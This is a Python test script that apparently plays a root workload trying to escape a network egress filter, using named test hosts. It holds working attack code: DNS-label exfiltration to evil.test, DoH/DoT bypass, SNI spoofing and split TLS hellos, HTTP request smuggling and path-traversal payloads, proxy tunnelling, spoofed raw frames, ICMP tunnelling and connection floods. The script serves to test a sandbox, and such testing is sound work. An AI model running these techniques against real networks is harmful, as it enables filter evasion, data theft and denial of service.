#!/usr/bin/env python3
"""What a workload that is root tries in order to get out. It prints what came back, as lines of JSON.

Usage: attack.py ROUNDS      more rounds make floods longer
"""

import json
import os
import random
import socket
import ssl
import struct
import sys
import threading
import time
import urllib.request

GATEWAY = "10.255.255.253"
REAL = "93.184.216.34"
START = time.monotonic()
BLIND = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
BLIND.check_hostname = False
BLIND.verify_mode = ssl.CERT_NONE


def tell(name, result):
    """Prints what an attempt brought."""
    if isinstance(result, bytes):
        result = result.decode("latin-1")
    print(json.dumps({"attempt": name, "result": str(result)[:300], "at": round(time.monotonic() - START, 2)}),
          flush=True)


def attempt(name, function, *arguments):
    """Runs an attempt; that it fails is what is expected."""
    try:
        tell(name, function(*arguments))
    except (OSError, ValueError, ssl.SSLError) as error:
        tell(name, f"error: {error}")


def say(host, port, data, wait=5, pause=0.0):
    """Sends bytes to a host and returns what it answers."""
    with socket.create_connection((host, port), timeout=wait) as stream:
        pieces = [data] if not pause else [data[i:i + 1] for i in range(len(data))]
        for piece in pieces:
            stream.sendall(piece)
            time.sleep(pause)
        answer = b""
        try:
            while len(answer) < 4096:
                piece = stream.recv(4096)
                if not piece:
                    break
                answer += piece
                # All of an answer of a server, or of a refusal.
                if b"REACHED" in answer or b"}\n" in answer:
                    break
        except TimeoutError:
            pass
        return answer


def get(host, path="/", more=""):
    """A request as bytes."""
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{more}Connection: close\r\n\r\n".encode()


def secure(connect_to, port, server_name, request):
    """A request over TLS, with a name of its own choice in the handshake."""
    with socket.create_connection((connect_to, port), timeout=8) as plain:
        with BLIND.wrap_socket(plain, server_hostname=server_name) as stream:
            stream.sendall(request)
            return stream.recv(4096)


def hello_of(server_name):
    """The bytes of a ClientHello."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    side = BLIND.wrap_bio(incoming, outgoing, server_hostname=server_name)
    try:
        side.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def literal_addresses():
    """Addresses that no name was given for."""
    for address in ("1.1.1.1", "8.8.8.8", "127.0.0.1", "169.254.169.254", "10.0.0.1", "192.168.0.1",
                    REAL, GATEWAY, "100.64.0.1", "224.0.0.1", "255.255.255.255", "0.0.0.0"):
        for port in (80, 443, 853):
            if address in ("127.0.0.1", "0.0.0.0"):
                continue
            attempt(f"literal {address}:{port}", say, address, port, get("good.test", "/ok/x"), 2)
    attempt("literal with the right name", secure, REAL, 443, "good.test", get("good.test", "/ok/x"))


def datagrams():
    """UDP of all kinds: DNS past us, QUIC, anything."""
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x04test\x00\x00\x10\x00\x01"
    quic = b"\xc3\x00\x00\x00\x01\x08" + os.urandom(1180)
    for host, port, data in (("8.8.8.8", 53, query), ("1.1.1.1", 443, quic), ("good.test", 443, quic),
                             ("good.test", 80, b"x"), (GATEWAY, 443, quic), (GATEWAY, 67, b"x" * 300)):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
            stream.settimeout(0.5)
            def exchange():
                stream.sendto(data, (host, port))
                return stream.recv(2048)
            attempt(f"udp {host}:{port}", exchange)


def names(rounds):
    """Data in names; records that carry more; name servers that are not ours."""
    for number in range(100 * rounds):
        label = os.urandom(24).hex()
        try:
            socket.getaddrinfo(f"{label}.{number}.evil.test", 80)
        except OSError:
            pass
    for kind in (16, 15, 33, 255, 65, 64, 46, 252):
        query = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
        query += b"\x20" + b"a" * 32 + b"\x04evil\x04test\x00" + struct.pack(">HH", kind, 1)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
            stream.settimeout(1)
            stream.sendto(query, (GATEWAY, 53))
            attempt(f"record {kind}", stream.recv, 2048)
    for host in ("dns.google", "cloudflare-dns.com", "dns.quad9.net"):
        attempt(f"doh {host}", secure, host, 443, host, get(host, "/dns-query?dns=AAAA"))
        attempt(f"dot {host}", secure, host, 853, host, b"\x00\x1d" + b"x" * 29)


def identities():
    """A connection that is for one host, and says another."""
    for to, port, name, host in (
        ("good.test", 443, "evil.test", "evil.test"),
        ("good.test", 443, "good.test", "evil.test"),
        ("good.test", 443, "plain.test", "plain.test"),
        ("evil.test", 443, "good.test", "good.test"),
        ("plain.test", 443, "evil.test", "evil.test"),
        ("plain.test", 443, "good.test", "good.test"),
        ("plain.test", 443, None, "plain.test"),
    ):
        attempt(f"tls to {to}: {name}, {host}", secure, to, port, name, get(host, "/ok/x"))
    for pause in (0.0, 0.002):
        hello = hello_of("evil.test")
        attempt("a split hello", say, "plain.test", 443, hello, 5, pause)
    # The same in records of a few bytes each.
    hello = hello_of("evil.test")[5:]
    records = b"".join(b"\x16\x03\x01" + struct.pack(">H", len(hello[i:i + 9])) + hello[i:i + 9]
                       for i in range(0, len(hello), 9))
    attempt("a hello in small records", say, "plain.test", 443, records)
    for host in ("rebind.test", "local.test", "zero.test", "mapped.test", "asked.test", "evil.test"):
        attempt(f"plain {host}", say, host, 80, get(host, "/ok/x"))
        attempt(f"tls {host}", secure, host, 443, host, get(host, "/ok/x"))


def requests():
    """Requests that could be read in two ways, and paths that lead elsewhere."""
    inner = b"GET /secret HTTP/1.1\r\nHost: good.test\r\n\r\n"
    length = str(len(inner)).encode()
    post = b"GET /ok/x HTTP/1.1\r\nHost: good.test\r\n"
    chunk = hex(len(inner))[2:].encode()
    attempts = {
        "two lengths": post + b"Content-Length: 0\r\nContent-Length: " + length + b"\r\n\r\n" + inner,
        "length and chunks": post + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner,
        "chunks by another name": post + b"Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n" + inner,
        "chunks with a tab": post + b"Transfer-Encoding:\tchunked\r\nContent-Length: " + length + b"\r\n\r\n0\r\n\r\n" + inner,
        "a folded header": post + b"X: 1\r\n Transfer-Encoding: chunked\r\n\r\n" + inner,
        "a bare line feed": b"GET /ok/x HTTP/1.1\nHost: good.test\n\n" + inner,
        "a header with a null": post + b"X: a\x00b\r\n\r\n" + inner,
        "a space before the colon": post + b"Transfer-Encoding : chunked\r\n\r\n" + chunk + b"\r\n" + inner + b"\r\n0\r\n\r\n",
        "pipelined": post + b"\r\n" + inner,
        "two hosts": b"GET /secret HTTP/1.1\r\nHost: good.test\r\nHost: evil.test\r\n\r\n",
        "absolute": b"GET http://evil.test/ok/x HTTP/1.1\r\nHost: good.test\r\n\r\n",
        "absolute, both": b"GET http://evil.test/ok/x HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "a user in the host": b"GET /ok/x HTTP/1.1\r\nHost: good.test@evil.test\r\n\r\n",
        "another port": b"GET /ok/x HTTP/1.1\r\nHost: good.test:8080\r\n\r\n",
        "old": b"GET /ok/x HTTP/1.0\r\n\r\n",
        "oldest": b"GET /ok/x\r\n\r\n",
        "another method": b"POST /ok/x HTTP/1.1\r\nHost: good.test\r\nContent-Length: 0\r\n\r\n",
        "a method by override": post + b"X-HTTP-Method-Override: DELETE\r\n\r\n" + inner,
        "trace": b"TRACE /ok/x HTTP/1.1\r\nHost: good.test\r\n\r\n",
        "connect": b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n",
        "upgrade to HTTP/2": post + b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n" + inner,
    }
    for path in ("/secret", "/ok/../secret", "/ok/%2e%2e/secret", "/ok/%2E%2e%2fsecret", "/ok/..%2fsecret", "/ok\\..\\secret",
                 "/ok/./../secret", "//secret", "/OK/x", "/ok/%00/../../secret", "/ok/..;/secret", "/%6fk/../secret"):
        attempts[f"path {path}"] = get("good.test", path)
    for name, data in attempts.items():
        attempt(f"http {name}", say, "good.test", 80, data, 3)
        attempt(f"https {name}", secure, "good.test", 443, "good.test", data)
    for data in (b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n",
                 b"CONNECT proxy.test:3128 HTTP/1.1\r\nHost: proxy.test:3128\r\n\r\n",
                 b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
                 b"\x05\x01\x00" + b"\x05\x01\x00\x03\x09evil.test\x01\xbb"):
        attempt(f"proxy {data[:20]!r}", say, "proxy.test", 3128, data, 3)

    def follow():
        return urllib.request.urlopen("http://good.test/ok/redirect", timeout=5).read()

    attempt("redirect", follow)


def frames(rounds):
    """Frames by hand: other senders, other protocols, nonsense."""
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind(("eth0", 0))
    mine = raw.getsockname()[4]
    other = b"\x02\x00\x00\x00\x00\x99"
    gateway = b"\xff" * 6

    def ip(source, target, protocol, payload, flags=0):
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, flags, 64, protocol, 0,
                           socket.inet_aton(source), socket.inet_aton(target))
        total = sum(struct.unpack(">10H", head))
        total = (total & 0xffff) + (total >> 16)
        total = (total & 0xffff) + (total >> 16)
        return head[:10] + struct.pack(">H", ~total & 0xffff) + head[12:] + payload

    syn = struct.pack(">HHIIBBHHH", 4000, 80, 1, 0, 0x50, 2, 1024, 0, 0)
    udp = struct.pack(">HHHH", 4000, 53, 12, 0) + b"data"
    echo = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + b"tunnel" * 20
    packets = [
        ip(source, target, protocol, payload, flags)
        for source in ("10.255.255.254", "10.0.0.7", "127.0.0.1", REAL, "255.255.255.255")
        for target in ("1.1.1.1", "127.0.0.1", REAL, GATEWAY, "255.255.255.255", "224.0.0.251")
        for protocol, payload in ((6, syn), (17, udp), (1, echo), (47, b"gre" * 9), (50, b"esp" * 9), (4, syn * 2))
        for flags in (0, 0x2000, 0x00b9)
    ]
    v6 = struct.pack(">IHBB", 6 << 28, 20, 6, 64) + b"\x20\x01" + b"\x00" * 14 + b"\x26\x06" + b"\x00" * 14 + syn
    for sender in (mine, other, b"\xff" * 6):
        for packet in packets:
            send(raw, gateway + sender + b"\x08\x00" + packet)
        send(raw, gateway + sender + b"\x86\xdd" + v6)
        send(raw, gateway + sender + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x800, 6, 4, 2) + other
             + socket.inet_aton(GATEWAY) + mine + socket.inet_aton("10.255.255.254"))
    noise = random.Random(4711)
    for _ in range(5000 * rounds):
        length = noise.choice((0, 1, 13, 14, 20, 33, 60, 200, 1500, 9000))
        kind = noise.choice((b"\x08\x00", b"\x08\x06", b"\x86\xdd", b"\x81\x00", noise.randbytes(2)))
        body = noise.randbytes(length)
        if noise.random() < 0.5:
            body = noise.choice(packets)[: length + 1] + body
        send(raw, gateway + noise.choice((mine, other)) + kind + body[:9000])
    tell("frames", "sent")


def send(raw, frame):
    """Sends a frame; what the kernel refuses is not sent."""
    try:
        raw.send(frame)
    except OSError:
        pass


def pings():
    """Data in echo requests."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        raw.settimeout(1)
        for target in ("1.1.1.1", REAL, GATEWAY):
            raw.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00" + b"tunnel" * 100, (target, 0))
        attempt("echo", raw.recv, 2048)


def crowds(rounds):
    """Many connections, and many that are slow."""
    slow = []
    for _ in range(150):
        try:
            stream = socket.create_connection(("good.test", 80), timeout=2)
            stream.sendall(b"GET /ok/slow HTTP/1.1\r\nHost: go")
            slow.append(stream)
        except OSError:
            break
    tell("slow", len(slow))
    address = socket.getaddrinfo("good.test", 80, socket.AF_INET)[0][4]
    opened = refused = 0
    held = []
    for _ in range(2000 * rounds):
        try:
            stream = socket.create_connection(address, timeout=5)
            opened += 1
            held.append(stream)
            if len(held) > 700:
                held.pop(0).close()
        except OSError:
            refused += 1
    tell("crowd", f"{opened} opened, {refused} refused")
    for stream in held + slow:
        stream.close()


def main():
    """All of it, one after the other; what waits runs beside."""
    rounds = int(sys.argv[1])
    attempt("allowed", say, "good.test", 80, get("good.test", "/ok/allowed"))
    attempt("allowed over TLS", secure, "good.test", 443, "good.test", get("good.test", "/ok/allowed"))
    attempt("allowed, untouched", secure, "plain.test", 443, "plain.test", get("plain.test", "/any"))
    beside = [threading.Thread(target=work) for work in (literal_addresses, identities, requests)]
    for thread in beside:
        thread.start()
    datagrams()
    names(rounds)
    pings()
    for thread in beside:
        thread.join()
    frames(rounds)
    crowds(rounds)
    attempt("still allowed", say, "good.test", 80, get("good.test", "/ok/after"))
    print("done", flush=True)


if __name__ == "__main__":
    main()
